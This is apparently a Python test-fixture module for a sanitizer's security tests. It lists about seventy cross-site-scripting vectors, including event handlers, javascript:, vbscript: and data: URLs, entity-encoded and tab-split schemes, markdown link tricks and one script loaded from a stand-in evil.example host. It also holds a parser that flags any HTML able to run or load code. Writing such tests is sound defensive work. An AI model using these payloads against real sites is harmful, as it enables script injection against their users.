"""Hostile input for the security tests: XSS vectors and a structural check that HTML is inert.

"Inert" is checked on the parsed HTML, not by searching strings: no element that can run or
load code, no event-handler attribute, no URL with a scheme other than http(s), mailto or a
relative path, and no style but table-cell alignment.
"""

import re
from html import unescape
from html.parser import HTMLParser

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<td style="background:url(javascript:alert(1))">x</td>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="https://e.org" onmouseover="alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](https://e.org/x.png)',
    '[x](https://e.org/" onclick="alert(1))',
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://e.org/"onmouseover="alert(1)>',
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<picture><source srcset="/a.png, java\tscript:alert(1)"><img src=/a.png></picture>',
    '<picture><source srcset="x.png 1x,&#10;javascript:alert(1) 2x" onerror=alert(1)></picture>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<x onclick=alert(1)>click",
    "<!--<img src=x onerror=alert(1)>-->",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<div><style>*{x:expression(alert(1))}</style></div>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
]

ACTIVE_ELEMENTS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "base",
    "meta",
    "link",
    "svg",
    "math",
    "template",
    "noscript",
    "video",
    "audio",
    # "source" is not here: it loads media only in <video> and <audio> (refused above); in
    # <picture> it names images, every one of whose srcset URLs is checked below.
    "track",
    "marquee",
    "body",
    "html",
    "head",
    "portal",
    "animate",
    "set",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "background",
    "xlink:href",
    "data",
    "poster",
    "srcset",
    "ping",
    "lowsrc",
    "dynsrc",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


def url_scheme(value):
    """The scheme a browser sees in an attribute value, as the URL standard parses it.

    Leading and trailing C0 controls and spaces are dropped, tabs and newlines anywhere are
    removed; what precedes the first ":" is a scheme only if it is a letter then letters,
    digits, "+", "-" or ".". Anything else is a relative URL.
    """
    url = unescape(value).strip("".join(map(chr, range(0x21))))
    url = url.replace("\t", "").replace("\n", "").replace("\r", "")
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", url)
    return match.group(1).lower() if match else None


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"{name} handler on <{tag}>")
            if name in URL_ATTRIBUTES:
                urls = value.split(",") if name == "srcset" else [value]
                for scheme in map(url_scheme, urls):
                    if scheme and f"{scheme}:" not in SAFE_SCHEMES:
                        self.problems.append(f"{name}={value!r} on <{tag}>")
            if name == "style" and not (
                tag in ("td", "th")
                and value.replace(" ", "").startswith("text-align:")
                and ";" not in value.rstrip(";")
            ):
                self.problems.append(f"style={value!r} on <{tag}>")

    handle_startendtag = handle_starttag


def executable_parts(html: str) -> list[str]:
    """Every part of ``html`` that could run or load code; empty when it is inert."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems
